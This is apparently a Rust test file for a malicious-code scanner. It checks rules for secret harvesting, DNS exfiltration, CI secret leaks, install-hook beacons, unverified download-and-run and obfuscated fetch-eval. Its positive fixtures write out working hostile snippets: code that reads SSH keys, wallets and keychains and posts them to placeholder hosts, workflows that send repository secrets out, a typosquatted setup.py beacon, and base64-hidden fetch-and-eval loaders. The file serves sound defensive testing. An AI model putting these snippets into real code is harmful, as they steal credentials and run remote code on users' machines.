//! Round 39m (issue 14, sets39m): the misses of the held-out set 17 (BENCHMARKS.md, "Round 39m
//! held-out (sets39m)"), by class. Every case is worded here, not taken from a sample; names,
//! hosts and values are placeholders of our own.

use super::*;

const HARVEST: &str = "exfiltration.secret-harvest";
const DNS: &str = "exfiltration.dns-carry";
const CI: &str = "exfiltration.ci-secrets-sent";
const BEACON: &str = "supply_chain.install-hook-beacon";
const UNVERIFIED: &str = "supply_chain.unverified-download-run";
const HIDDEN_EVAL: &str = "obfuscation.hidden-fetch-eval";

fn below_critical(files: &[(&str, &str)], rule: &str) {
    let got = worst(files, rule);
    assert!(got < Some(Critical), "{rule}: {got:?}");
}

/// Several kinds of secret store looked for under home, read and posted.
#[test]
fn round_39m_secret_harvest_fires() {
    for (path, body) in [
        (
            "lib/sync.js",
            "const fs = require('fs'), os = require('os'), path = require('path');\nconst base = os.homedir();\nconst picks = ['.ssh/id_ed25519', '.config/exodus/wallet.json'];\nconst bag = {};\nfor (const p of picks) { try { bag[p] = fs.readFileSync(path.join(base, p), 'utf8'); } catch (e) {} }\nfetch('https://sync.notes-cloud.example/v2/put', { method: 'POST', body: JSON.stringify(bag) });\n",
        ),
        (
            "tools/collect.py",
            "import os, glob, requests\nhome = os.path.expanduser('~')\nfound = {}\nfor pat in ['.ssh/id_rsa', 'Library/Keychains/*.keychain-db']:\n    for f in glob.glob(os.path.join(home, pat)):\n        found[f] = open(f, 'rb').read().hex()\nrequests.post('http://198.51.100.61/in', json=found)\n",
        ),
    ] {
        at(&[(path, body)], HARVEST, Some(Critical));
    }
}

/// One store read for the tool's own job, or several named but nothing posted, or posted only to
/// this machine: not judged.
#[test]
fn round_39m_secret_harvest_does_not_fire() {
    for (path, body) in [
        (
            "sign.js",
            "const fs = require('fs'), os = require('os');\nconst kp = JSON.parse(fs.readFileSync(os.homedir() + '/.config/solana/id.json'));\nconst tx = signTransfer(kp, to, amount);\nfetch('https://rpc.chain-node.example', { method: 'POST', body: JSON.stringify(tx) });\n",
        ),
        (
            "audit.py",
            "import os\nhome = os.path.expanduser('~')\nfor name in ['.ssh/id_rsa', '.config/exodus/wallet.json']:\n    p = os.path.join(home, name)\n    if os.path.exists(p):\n        mode = oct(os.stat(p).st_mode)\n        print(name, mode, len(open(p).read()))\n",
        ),
        (
            "local_report.py",
            "import os, requests\nhome = os.path.expanduser('~')\nkinds = {'ssh': os.path.exists(home + '/.ssh/id_rsa'), 'wallet': os.path.exists(home + '/wallet.dat')}\nopen('report.txt', 'w').write(str(kinds))\nrequests.post('http://127.0.0.1:8700/report', json=kinds)\n",
        ),
    ] {
        below_critical(&[(path, body)], HARVEST);
    }
}

/// Machine data encoded into labels and resolved.
#[test]
fn round_39m_dns_carry_fires() {
    for (path, body) in [
        (
            "probe/__init__.py",
            "import base64, os, socket\nblob = os.getcwd() + '|' + socket.gethostname()\nlabel = base64.b32encode(blob.encode()).decode().strip('=').lower()\nfor i in range(0, len(label), 50):\n    name = label[i:i+50] + '.t.zone-relay.example'\n    try:\n        socket.getaddrinfo(name, 53)\n    except OSError:\n        pass\n",
        ),
        (
            "hooks/ping.js",
            "const dns = require('dns'), os = require('os');\nconst who = os.userInfo().username + '@' + os.hostname();\nconst enc = Buffer.from(who).toString('hex');\ndns.resolve4(enc + '.c.zone-relay.example', () => {});\n",
        ),
    ] {
        at(&[(path, body)], DNS, Some(Critical));
    }
}

/// Fixed names resolved, a random cache-busting label, or encoding with no lookup: not judged.
#[test]
fn round_39m_dns_carry_does_not_fire() {
    for (path, body) in [
        (
            "check_dns.py",
            "import socket\nfor host in ['api.vendor.example', 'cdn.vendor.example']:\n    print(host, socket.gethostbyname('api.vendor.example'))\n",
        ),
        (
            "bust.py",
            "import socket, uuid\nname = uuid.uuid4().hex + '.cache-test.example'\nprint(socket.getaddrinfo(name, 443))\n",
        ),
        (
            "digest.py",
            "import binascii, os\nprint(binascii.hexlify(os.getcwd().encode()))\n",
        ),
    ] {
        below_critical(&[(path, body)], DNS);
    }
}

/// Repository secrets mapped into a step that calls a drop host.
#[test]
fn round_39m_ci_secrets_fire() {
    for body in [
        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          T: ${{ secrets.NPM_TOKEN }}\n        run: |\n          echo \"$T\" | base64 > t.txt\n          curl -s -F \"f=@t.txt\" https://requestbin.net/r/abc123\n",
        "on: [pull_request]\njobs:\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n      - run: wget -q --post-data \"k=${{ secrets.DEPLOY_KEY }}\" http://203.0.113.19/k\n",
    ] {
        at(&[(".github/workflows/lint.yml", body)], CI, Some(Critical));
    }
}

/// Publishing with a token, or a notification to a chat vendor or the project's own host: not judged.
#[test]
fn round_39m_ci_secrets_do_not_fire() {
    for body in [
        "on: release\njobs:\n  pub:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm publish\n        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n",
        "on: push\njobs:\n  notify:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -X POST -d '{\"text\":\"built\"}' ${{ secrets.SLACK_WEBHOOK }}\n      - run: curl -H \"Authorization: Bearer ${{ secrets.DEPLOY_TOKEN }}\" https://deploy.ourteam.example/hook\n",
    ] {
        below_critical(&[(".github/workflows/ci.yml", body)], CI);
    }
}

/// A script run by the npm install hook, or a setup.py request through a helper function.
#[test]
fn round_39m_hook_script_and_wrapper_beacon_fire() {
    at(
        &[
            (
                "package.json",
                "{\n  \"name\": \"tiny-colors\",\n  \"scripts\": {\n    \"postinstall\": \"node scripts/check.js\"\n  }\n}\n",
            ),
            (
                "scripts/check.js",
                "const os = require('os'), https = require('https');\nconst info = { h: os.hostname(), d: os.homedir() };\nconst r = https.request('https://discord.com/api/webhooks/111/zzz', { method: 'POST' });\nr.end(JSON.stringify(info));\n",
            ),
        ],
        BEACON,
        Some(Critical),
    );
    at(
        &[(
            "setup.py",
            "import getpass, urllib.request\nfrom setuptools import setup\n\ndef send(u, body):\n    return urllib.request.urlopen(u, body)\n\nme = getpass.getuser()\nsend('http://192.0.2.140/b', me.encode())\nsetup(name='reqeusts')\n",
        )],
        BEACON,
        Some(Critical),
    );
}

/// The same host read in a script no install hook runs, or a hook script that downloads its own
/// binary by platform: not judged.
#[test]
fn round_39m_hook_script_beacon_does_not_fire() {
    for files in [
        vec![
            (
                "package.json",
                "{\n  \"name\": \"tiny-colors\",\n  \"scripts\": {\n    \"test\": \"node scripts/check.js\"\n  }\n}\n",
            ),
            (
                "scripts/check.js",
                "const os = require('os'), https = require('https');\nconst info = { h: os.hostname() };\nhttps.request('https://203.0.113.9/x', { method: 'POST' }).end(JSON.stringify(info));\n",
            ),
        ],
        vec![
            (
                "package.json",
                "{\n  \"name\": \"fastbin\",\n  \"scripts\": {\n    \"postinstall\": \"node install.js\"\n  }\n}\n",
            ),
            (
                "install.js",
                "const os = require('os'), https = require('https');\nconst url = `https://github.com/fastbin/fastbin/releases/download/v1/fastbin-${os.platform()}-${os.arch()}`;\nhttps.get(url, res => res.pipe(require('fs').createWriteStream('bin/fastbin')));\n",
            ),
        ],
    ] {
        below_critical(&files, BEACON);
    }
}

/// A download run with certificate checks off.
#[test]
fn round_39m_unverified_download_run_fires() {
    at(
        &[(
            "scripts/get.sh",
            "#!/bin/sh\ncurl -k -o /tmp/.agentd https://203.0.113.31/agentd\nchmod +x /tmp/.agentd\n/tmp/.agentd --daemon\n",
        )],
        UNVERIFIED,
        Some(Critical),
    );
}

/// Certificate checks off for a local API with nothing run, or a download run with checks on.
#[test]
fn round_39m_unverified_download_run_does_not_fire() {
    for (path, body) in [
        (
            "client.js",
            "const https = require('https');\nconst agent = new https.Agent({ rejectUnauthorized: false });\nfetch('https://localhost:8443/api/status', { agent }).then(r => r.json()).then(console.log);\n",
        ),
        (
            "scripts/get.sh",
            "#!/bin/sh\ncurl -fsSL -o /tmp/tool https://downloads.toolvendor.example/tool\nchmod +x /tmp/tool\n/tmp/tool --version\n",
        ),
    ] {
        below_critical(&[(path, body)], UNVERIFIED);
    }
}

/// Code fetched from a decoded address and evaluated.
#[test]
fn round_39m_hidden_fetch_eval_fires() {
    for body in [
        "const u = Buffer.from('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvcA==', 'base64').toString();\nfetch(u).then(r => r.text()).then(t => {\n  eval(t.body || t);\n});\n",
        "const where = atob('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvcQ==');\nconst axios = require('axios');\naxios.get(where).then(res => new Function('require', res.data)(require));\n",
    ] {
        at(&[("server/boot.js", body)], HIDDEN_EVAL, Some(Critical));
    }
}

/// A decoded config fetched and parsed, or a plain URL's JSON parsed: not judged.
#[test]
fn round_39m_hidden_fetch_eval_does_not_fire() {
    for body in [
        "const u = Buffer.from(process.env.CFG_URL_B64, 'base64').toString();\nfetch(u).then(r => r.json()).then(cfg => start(cfg.data));\n",
        "fetch('https://api.weather.example/v1/now').then(r => r.text()).then(t => console.log(JSON.parse(t).body));\n",
    ] {
        below_critical(&[("server/boot.js", body)], HIDDEN_EVAL);
    }
}

/// A lookup request before the beacon is a request too; the evidence is the call carrying a body.
#[test]
fn round_39m_beacon_evidence_is_the_call_with_a_body() {
    let body = "import getpass, json, urllib.request\nfrom setuptools import setup\n\ndef call(u, payload=None):\n    return urllib.request.urlopen(u, payload).read()\n\nname = getpass.getuser()\nwhere = call('https://whatsmyip.example/raw')\nrecord = {'who': name, 'at': where.decode()}\ncall('https://stats.pkg-pulse.example/hit',\n     payload=json.dumps(record).encode())\nsetup(name='colorsys-extra')\n";
    let lines: Vec<usize> = findings(&bundle(&[("setup.py", body)]))
        .into_iter()
        .filter(|f| f.rule_id == BEACON)
        .map(|f| f.line)
        .collect();
    assert_eq!(lines, vec![10], "{lines:?}");
}
